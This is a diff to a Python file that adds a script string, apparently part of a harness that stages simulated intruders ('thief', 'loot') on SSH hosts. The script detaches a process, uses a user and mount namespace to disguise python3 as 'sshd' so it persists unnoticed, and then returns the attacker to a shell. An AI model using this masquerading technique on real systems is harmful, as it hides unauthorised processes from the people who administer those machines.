@@ -188,6 +188,32 @@ for each in (1, 2):
 signal.pause()
 """
 
+# Makes a process that keeps the terminal open a child of its own parent's, and a program of root's named sshd, by a
+# mount in a user namespace. Then becomes the shell again.
+CLONED = """\
+import ctypes, os, platform, signal, time
+libc = ctypes.CDLL(None, use_errno=True)
+uid, gid = os.getuid(), os.getgid()
+clone = {"x86_64": 56, "aarch64": 220}[platform.machine()]
+pid = libc.syscall(clone, 0x8000 | signal.SIGCHLD, 0, 0, 0, 0)
+if not pid:
+    signal.signal(signal.SIGHUP, signal.SIG_IGN)
+    os.setsid()
+    assert libc.unshare(0x10000000 | 0x20000) == 0
+    for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
+        with open(f"/proc/self/{name}", "w") as file:
+            file.write(text)
+    os.chdir(os.path.expanduser("~"))
+    open("sshd", "w").close()
+    os.chmod("sshd", 0o755)
+    assert libc.mount(os.path.realpath("/usr/bin/python3").encode(), b"sshd", None, 4096, None) == 0
+    os.execve("./sshd", ["sshd", "-c", "import time; time.sleep(1000)"], {"PYTHONHOME": "/usr"})
+while open(f"/proc/{pid}/comm").read() != "sshd\\n":
+    time.sleep(0.05)
+print("clo" + "ned", pid, flush=True)
+os.execv("/bin/bash", ["-bash"])
+"""
+
 
 def let_in(host: Host, terminal: SshClient, way: str, loot: str, pts: str) -> None:
     """Begins a thief on a terminal, which reads from `pts`."""
